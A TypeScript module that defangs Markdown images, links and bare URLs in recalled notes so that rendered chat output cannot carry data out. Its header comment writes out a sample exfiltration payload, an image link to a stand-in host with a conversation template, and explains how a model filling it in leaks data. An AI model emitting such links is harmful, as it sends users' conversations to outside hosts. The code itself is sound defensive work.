/**
 * Links and images that could carry data out of a prompt: a Markdown image is fetched the moment
 * a chat UI renders it, so `![x](https://evil.example/log?q={{conversation}})` in a recalled note
 * would leak whatever a model filled in. At read time every image becomes inert text, and every
 * link or bare URL with a query string, a template (`{{…}}`, `${…}`) or a script/data scheme is
 * defanged (`hxxps://evil[.]example/...`). Plain links to pages stay as they are.
 */

export interface InertLinks {
  text: string;
  /** Images and links made inert. */
  count: number;
}

const TEMPLATE = /\{\{|\$\{|%7b%7b|%24%7b/iu;
const SCRIPT_SCHEME = /^\s*(?:javascript|vbscript|data|file):/iu;

function hostOf(url: string): string {
  const m = /^(?:(?:[a-z][a-z0-9+.-]*:)?\/\/([^/?#\s]+)|(www\.[^/?#\s]+))/iu.exec(url.trim());
  return m ? (m[1] ?? m[2]!).replace(/^[^@]*@/u, '') : '';
}

/** Whether following or fetching the URL could send data somewhere. */
export function isRiskyUrl(url: string): boolean {
  return SCRIPT_SCHEME.test(url) || TEMPLATE.test(url) || /\?./u.test(url);
}

/** `https://a.b/c?d` -> `hxxps://a[.]b/c?d`: readable, but no renderer or model treats it as a link. */
export function defang(url: string): string {
  const host = hostOf(url);
  const scheme = url
    .replace(/^http/iu, 'hxxp')
    .replace(/^javascript:/iu, 'javascript[:]')
    .replace(/^data:/iu, 'data[:]');
  return host ? scheme.replace(host, host.replace(/\./gu, '[.]')) : scheme;
}

const MD_IMAGE = /!\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]{0,4000})>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/gu;
const MD_IMAGE_REF = /!\[([^\]\n]{0,300})\]\[[^\]\n]{0,300}\]/gu;
const HTML_IMAGE = /<img\b[^>]{0,4000}>/giu;
const MD_LINK = /(?<!!)\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]{0,4000})>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/gu;
// Bounded quantifiers: a line of ten thousand "[" must not make a scan quadratic.
const REF_DEFINITION = /^( {0,3}\[[^\]\n]+\]:\s*)<?(\S+?)>?((?:\s+.*)?)$/gmu;
const BARE_URL = /\b(?:(?:https?|ftp):\/\/|www\.)[^\s<>()"'`\]]+/giu;

export function makeLinksInert(text: string): InertLinks {
  let count = 0;
  const image = (alt: string, url: string) => {
    count++;
    const where = url.startsWith('data:') ? 'inline data' : hostOf(url);
    return `[image${alt ? `: ${alt}` : ''}${where ? ` (${where.replace(/\./gu, '[.]')})` : ''}]`;
  };
  let out = text
    .replace(MD_IMAGE, (_m, alt: string, url: string) => image(alt, url))
    .replace(MD_IMAGE_REF, (_m, alt: string) => image(alt, ''))
    .replace(HTML_IMAGE, (tag) =>
      image(/\balt\s*=\s*"([^"]*)"/iu.exec(tag)?.[1] ?? '', /\bsrc\s*=\s*["']?([^"'\s>]+)/iu.exec(tag)?.[1] ?? ''),
    )
    .replace(MD_LINK, (m, label: string, url: string) => {
      if (!isRiskyUrl(url)) return m;
      count++;
      return `${label} (link made inert: ${defang(url)})`;
    })
    .replace(REF_DEFINITION, (m, head: string, url: string, tail: string) => {
      if (!isRiskyUrl(url)) return m;
      count++;
      return `${head}${defang(url)}${tail}`;
    });
  out = out.replace(BARE_URL, (url) => {
    if (!isRiskyUrl(url)) return url;
    count++;
    return defang(url);
  });
  return { text: out, count };
}
